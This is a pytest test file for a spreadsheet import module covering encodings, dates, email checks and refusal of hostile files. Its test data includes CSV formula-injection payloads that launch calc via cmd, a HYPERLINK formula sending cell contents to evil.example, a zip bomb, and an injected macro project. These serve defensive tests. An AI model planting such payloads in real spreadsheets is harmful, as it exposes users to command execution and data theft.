"""Reading a spreadsheet to import (core/imports.py): CSV in the encodings
Excel writes, .xlsx, the dates people type, and a clear refusal for every
hostile or broken file, never an exception a person would see as a 500."""
import csv
import io
import zipfile
from datetime import date, datetime

import openpyxl
import pytest

from core import imports
from core.imports import BadDate, ImportRefused, read_table
from core.spreadsheets import csv_file
from core.models import SpreadsheetImport


def xlsx(rows, *, formula=None) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    if formula:
        sheet[formula[0]] = formula[1]
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_a_csv_in_utf8_with_a_bom_in_cp1252_or_with_semicolons_reads_the_same():
    text = "Name,Email\nZofia Wiśniewska,zofia@example.org\n"
    for body in (text.encode("utf-8"), ("\ufeff" + text).encode("utf-8")):
        table = read_table("members.csv", body)
        assert table.headers == ["Name", "Email"] and table.rows == [(2, ["Zofia Wiśniewska", "zofia@example.org"])]
    table = read_table("members.csv", "Name;Email\nRené Dupré;rene@example.org\n".encode("cp1252"))
    assert table.rows == [(2, ["René Dupré", "rene@example.org"])]


def test_blank_rows_are_skipped_and_rows_keep_their_spreadsheet_numbers():
    table = read_table("members.csv", b"\nName,Email\n\nAmina,amina@example.org\n,\nBo,bo@example.org\n")
    assert [number for number, _ in table.rows] == [4, 6]


def test_a_title_and_notes_above_the_headings_are_passed_over():
    table = read_table("members.csv", b"Kettering Interfaith Forum: members\nAs at March\n\n"
                                      b"Name,Email\nAmina Patel,amina@example.org\n")
    assert table.headers == ["Name", "Email"]
    assert table.rows == [(5, ["Amina Patel", "amina@example.org"])]
    one_column = read_table("emails.csv", b"Email\na@example.org\nb@example.org\n")
    assert one_column.headers == ["Email"] and len(one_column.rows) == 2


def test_an_xlsx_reads_excel_dates_and_a_formula_cell_as_its_formula_never_run_nor_its_saved_value():
    """Found walking: a formula cell was read as its saved value (or, saved without one, as an
    empty cell, "Enter the person's name"), so nobody could see the file held a formula."""
    body = xlsx([["Name", "Email", "DOB"], ["Ayaan Khan", "ayaan@example.org", datetime(2010, 3, 25)]],
                formula=("A3", "=HYPERLINK(\"http://evil.example\",\"x\")"))
    table = read_table("members.xlsx", body)
    assert table.rows[0] == (2, ["Ayaan Khan", "ayaan@example.org", datetime(2010, 3, 25)])
    assert table.rows[1][1][0] == '=HYPERLINK("http://evil.example","x")'
    assert imports.looks_like_formula(table.rows[1][1][0])  # refused by cell_problems, with the formula shown


def test_a_csv_cell_with_doubled_quotes_is_read_as_excel_writes_it_wherever_it_is_in_the_file():
    """Found walking: the separator's guess from the first 8 KB also guessed no doubled quotes,
    so a quoted cell far down the file was split or kept its extra quotes."""
    rows = "".join(f"Person {n},person{n}@example.org,Muslim\n" for n in range(250))
    body = f'Name,Email,Faith\n{rows}"Ahmed ""Mo"" Khan",mo@example.org,"Mosque, Kettering"\n'.encode()
    for separator in (b",", b";"):
        table = read_table("members.csv", body.replace(b",", separator) if separator == b";" else body)
        assert table.rows[-1][1][0] == 'Ahmed "Mo" Khan'


@pytest.mark.parametrize("name, body, message", [
    ("members.csv", b"", "The file is empty"),
    ("members.csv", b"Name,Email\n", "no rows of people"),
    ("members.csv", b"a@example.org,b@example.org\nc@example.org,d@example.org\n", "first row must name the columns"),
    ("members.csv", b"\x00\x01\x02binary", "not a spreadsheet"),
    ("members.pdf", b"%PDF-1.4", "must be a CSV or an Excel workbook"),
    ("members.xlsm", b"PK\x03\x04", "macros"),
    ("members.xls", b"\xd0\xcf\x11\xe0rest", ".xls file"),
    ("members.xlsx", b"\xd0\xcf\x11\xe0rest", "password-protected"),
    ("members.xlsx", b"PK\x03\x04 not really a zip", "not a working Excel workbook"),
    ("members.xlsx", b"just text", "not a working Excel workbook"),
])
def test_broken_and_wrong_files_are_refused_with_a_reason(name, body, message):
    with pytest.raises(ImportRefused) as refused:
        read_table(name, body)
    assert message in refused.value.message and refused.value.field == "spreadsheet"


def test_a_file_over_the_size_limit_is_refused_before_it_is_read():
    with pytest.raises(ImportRefused, match="larger than 5 MB"):
        read_table("members.csv", b"Name\n" + b"x" * imports.MAX_BYTES)


def test_too_many_rows_or_columns_are_refused(monkeypatch):
    monkeypatch.setattr(imports, "MAX_ROWS", 3)
    with pytest.raises(ImportRefused, match="more than 3 rows"):
        read_table("members.csv", b"Name\n" + b"a\n" * 4)
    wide = ",".join(f"Heading {n}" for n in range(imports.MAX_COLUMNS + 1)).encode()
    with pytest.raises(ImportRefused, match="columns"):
        read_table("members.csv", wide + b"\n" + b"x," * imports.MAX_COLUMNS + b"x\n")


def test_a_zip_bomb_is_refused_before_openpyxl_opens_it():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (20 * 1024 * 1024))
    with pytest.raises(ImportRefused, match="unpacks to far more than its size"):
        read_table("members.xlsx", out.getvalue())


def test_a_workbook_carrying_macros_is_refused_whatever_its_name():
    body = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx([["Name"], ["A"]]))) as source, zipfile.ZipFile(body, "w") as copy:
        for member in source.infolist():
            copy.writestr(member, source.read(member))
        copy.writestr("xl/vbaProject.bin", b"macro")
    with pytest.raises(ImportRefused, match="macros"):
        read_table("members.xlsx", body.getvalue())


@pytest.mark.parametrize("cell, expected", [
    ("25/03/2010", date(2010, 3, 25)),
    ("03/04/2010", date(2010, 4, 3)),  # day first, never US order
    ("3.4.2010", date(2010, 4, 3)),
    ("2010-03-25", date(2010, 3, 25)),
    (40262, date(2010, 3, 25)),  # an Excel serial
    (40262.0, date(2010, 3, 25)),
    (datetime(2010, 3, 25, 0, 0), date(2010, 3, 25)),
    ("", None),
    (None, None),
])
def test_dates_are_read_day_first_iso_or_as_excel_serials(cell, expected):
    assert imports.date_of(cell) == expected


@pytest.mark.parametrize("cell", ["13/13/2010", "25/03/10", "March 2010", "31/02/2010", -5, "2010-03-25 25:00"])
def test_dates_that_cannot_be_read_for_certain_are_refused(cell):
    with pytest.raises(BadDate):
        imports.date_of(cell)


def test_a_date_that_reads_only_month_first_says_so():
    """Found walking: 05/14/2012 got the same "Not a date" as "last spring"."""
    with pytest.raises(BadDate) as refused:
        imports.date_of("05/14/2012")
    assert refused.value.explained("Not a date") == ("05/14/2012 reads as month first: write the day first, like "
                                                     "25/03/2010 (or 2010-03-25)")
    for cell in ("13/13/2010", "31/02/2010", "last spring"):
        with pytest.raises(BadDate) as refused:
            imports.date_of(cell)
        assert refused.value.explained("Not a date") == "Not a date"


def test_an_address_mail_cannot_reach_is_a_problem_saying_so():
    assert imports.email_of("Pawel.Wisniewska@Example.org") == "pawel.wisniewska@example.org"
    with pytest.raises(ValueError, match="Letters like ł or é before the @ cannot be emailed"):
        imports.email_of("paweł.wisniewska61@example.org")
    with pytest.raises(ValueError, match="Not an email address in the right form"):
        imports.email_of("not-an-email")


def test_a_time_after_a_date_is_read():
    assert imports.date_time_of("25/03/2026 18:30") == (date(2026, 3, 25), (18, 30))
    assert imports.date_time_of(46106.75) == (date(2026, 3, 25), (18, 0))


def test_refused_rows_are_written_with_formulas_neutralised():
    kind = imports.Kind(name="k", title="k", columns=(imports.Column("name", "Name"),), load_scope=None,
                        may_import=None, scope_title=None, back_url=None, clean=None, keys=None, already=None,
                        lock=None, apply=None)
    checks = [imports.RowCheck(2, {"name": "=cmd|' /C calc'!A0"}, problems=[imports.Problem("name", "Formula")])]
    body = imports.refused_rows_file(kind, checks).decode("utf-8-sig")
    assert "'=cmd" in body and "Name: Formula" in body


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_written_file_is_a_formula_whatever_separator_excel_splits_it_on(delimiter):
    """Found by an attack: cells with a formula after a ";" inside them were
    written as they were, and Excel set to split on ";" ran them."""
    cells = ['Jan;=HYPERLINK("http://evil.example/?"&A1,"Click")', "Bob ;@SUM(1+1)*cmd|'/C calc'!A0",
             'Org, with comma;=1+1', "Tab\t-2+3", 'x,"=1', "+44 1536 400400", "Ann; Ben", "-"]
    written = csv_file(["Cell"], [[cell] for cell in cells]).decode("utf-8-sig")
    read = [cell.strip() for row in csv.reader(io.StringIO(written), delimiter=delimiter) for cell in row]
    assert read and not [cell for cell in read if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
    assert "Ann; Ben" in written  # words after a separator are left as they are


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "@cmd", "-2+3+cmd|' /C calc'!A0", " =HYPERLINK()", "-A1"])
def test_formula_like_text_is_a_formula(text):
    assert imports.looks_like_formula(text)


@pytest.mark.parametrize("text", ["+44 1536 123456", "-12.5", "01536-123456", "+44 (0)1536 400400", "-", "Anne-Marie"])
def test_numbers_phone_numbers_and_words_are_not_formulas(text):
    assert not imports.looks_like_formula(text)


def test_every_text_cell_of_every_kind_is_checked_for_control_characters_and_formulas(app):
    """In one place for every kind: each column, by row and column."""
    import core.partners.imports  # noqa: F401  the kinds register when their modules load
    import events.imports  # noqa: F401
    import forums.imports  # noqa: F401
    bad = {"Al\x01ex": "invisible control characters", "Bell\x07": "invisible control characters",
           "Esc\x1b[31m": "invisible control characters", "Mo \u202enimdA": "invisible control characters",
           "-2+3+cmd|' /C calc'!A0": "formula"}
    kinds = list(imports.kinds)
    assert {kind.name for kind in kinds} >= {"forum-members", "past-attendance", "contacts"}
    for kind in kinds:
        for column in kind.columns:
            for text, said in bad.items():
                [problem] = imports.cell_problems(kind, {column.name: text})
                assert problem.column == column.name and said in problem.message, (kind.name, column.name, text)
        # Right-to-left marks and joiners Urdu needs are not controls; numbers and dates are not text.
        assert imports.cell_problems(kind, {kind.columns[0].name: "\u0639\u0644\u06cc\u200f"}) == []
        assert imports.cell_problems(kind, {kind.columns[0].name: 7, kind.columns[1].name: date(2020, 1, 1)}) == []


def _without_dimension(body: bytes) -> bytes:
    """The workbook with its sheet's <dimension> taken out, as a hand-made file may have it."""
    import re
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb"<dimension[^>]*/>", b"", data)
            copy.writestr(member, data)
    return out.getvalue()


def test_one_blank_cell_at_the_last_row_of_a_sheet_is_refused_without_walking_a_million_rows():
    import time

    from openpyxl.styles import Font
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Name", "Email"])
    sheet.append(["Ann", "ann@example.org"])
    sheet.cell(row=1048576, column=1).font = Font(bold=True)  # a blank cell, styled so it is saved
    out = io.BytesIO()
    workbook.save(out)
    assert len(out.getvalue()) < 10_000
    for body in (out.getvalue(), _without_dimension(out.getvalue())):
        began = time.process_time()
        with pytest.raises(ImportRefused, match="Delete the rows below your data"):
            read_table("members.xlsx", body)
        assert time.process_time() - began < 1.5


def test_a_workbook_with_more_shared_strings_than_a_full_sheet_needs_is_refused(monkeypatch):
    assert imports.MAX_UNPACKED_BYTES <= 30 * 1024 * 1024
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx([["Name"], ["Ann"]]))) as source, zipfile.ZipFile(out, "w") as copy:
        for member in source.infolist():
            copy.writestr(member, source.read(member))
        strings = "".join(f"<si><t>Person number {n}</t></si>" for n in range(300))
        copy.writestr("xl/sharedStrings.xml", f'<sst count="300" uniqueCount="300">{strings}</sst>')
    body = out.getvalue()
    assert read_table("members.xlsx", body).rows == [(2, ["Ann"])]
    monkeypatch.setattr(imports, "MAX_SHARED_STRINGS_BYTES", 4096)
    with pytest.raises(ImportRefused, match="unpacks to far more than its size"):
        read_table("members.xlsx", body)


def test_the_columns_matched_to_nothing_are_named_in_the_files_order_blank_headings_aside():
    started = SpreadsheetImport(headers=["Phone", "Name", " ", "Email", "Notes"], mapping={"name": 1, "email": 3})
    assert imports.headings_left_out(started) == ["Phone", "Notes"]
    assert imports.headings_left_out(SpreadsheetImport(headers=["Name"], mapping=None)) == ["Name"]
